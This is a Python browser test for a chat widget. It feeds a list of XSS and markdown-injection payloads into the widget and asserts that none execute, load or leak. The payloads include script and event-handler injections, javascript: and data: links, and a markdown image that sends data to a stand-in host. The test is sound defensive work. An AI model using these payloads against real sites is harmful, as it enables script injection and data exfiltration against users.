"""Whatever a model, a page or a colleague writes, it stays text: nothing of it runs, loads or leads to a script."""

from __future__ import annotations

from typing import Any

import pytest

from tests.widget.conftest import Visitor
from tests.widget.scripted_api import SETTINGS, ScriptedApi, stream_of

PAYLOADS = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg/onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<style>@import 'http://foreign.example/x.css'</style>",
    "<form action=http://foreign.example><button>Go</button></form>",
    "</textarea></style></script><script>window.ran = 1</script>",
    "[click](javascript:window.ran=1)",
    "[click](  jAvAsCrIpT:window.ran=1)",
    "[click](java\tscript:window.ran=1)",
    "[click](data:text/html,<script>opener.ran=1</script>)",
    "[click](vbscript:msgbox)",
    "[![x](http://foreign.example/a.png)](javascript:window.ran=1)",
    "![secret](http://foreign.example/leak?d=42)",
    '[x](http://shop.example/ "onmouseover=window.ran=1")',
    "<a href='javascript:window.ran=1'>x</a>",
    "`<img src=x onerror=window.ran=1>`",
    "```html\n<script>window.ran = 1</script>\n```",
    "| <img src=x onerror=window.ran=1> | b |\n|---|---|\n| <script>window.ran=1</script> | c |",
    "&lt;img src=x onerror=window.ran=1&gt;",
]
FORBIDDEN = """() => {
  const allowed = new Set(`div section span h2 h3 h4 h5 h6 p b i ul ol li article form textarea input button label svg
    path a em strong del code pre blockquote hr br table thead tbody tr th td`.split(/\\s+/));
  const bad = [];
  for (const node of document.querySelector("deskbell-widget").shadowRoot.querySelectorAll("*")) {
    if (!allowed.has(node.localName)) bad.push(node.outerHTML);
    for (const { name } of node.attributes) {
      const isOurColour = name === "style" && node.classList.contains("deskbell");
      if (/^on|^src|^action|^style$/.test(name) && !isOurColour) bad.push(`${node.localName} ${name}`);
    }
    if (node.localName === "a" && !/^(https?|mailto|tel):$/.test(node.protocol)) bad.push(node.href);
  }
  return bad;
}"""


@pytest.mark.parametrize("size", [1, 7, 4000])
def test_nothing_that_is_written_to_a_visitor_runs(visitor: Visitor, api: ScriptedApi, size: int) -> None:
    foreign: list[str] = []
    visitor.page.on("request", lambda request: foreign.append(request.url) if "foreign" in request.url else None)
    everything = "\n\n".join(PAYLOADS)
    first = PAYLOADS[1]
    api.settings = {**SETTINGS, "name": first, "greeting": first, "disclosure": first, "starters": [first]}
    frames = stream_of(everything, followups=(first, PAYLOADS[7]), size=size)
    sources = f'{{"sources":[{{"id":"a","title":"{PAYLOADS[2]}","url":"javascript:window.ran=1"}}]}}'
    last = frames.pop()
    number = len(frames)
    frames += [f"id: {number}\nevent: sources\ndata: {sources}\n\n", last.replace(f"id: {number}", f"id: {number + 1}")]
    api.answer(frames)
    watch = f"""() => {{
      window.bad = [];
      const check = {FORBIDDEN};
      new MutationObserver(() => bad.push(...check())).observe(
        document.querySelector("deskbell-widget").shadowRoot, {{childList: true, subtree: true, attributes: true}});
    }}"""
    visitor.visit().page.evaluate(watch)
    visitor.open().ask(PAYLOADS[0]).is_done()
    found: list[Any] = visitor.page.evaluate(f"[...bad, ...({FORBIDDEN})()]")
    assert found == []
    assert visitor.page.evaluate("window.ran") is None
    assert foreign == []
    assert visitor.errors == []
    assert "<script>window.ran = 1</script>" in visitor.text()
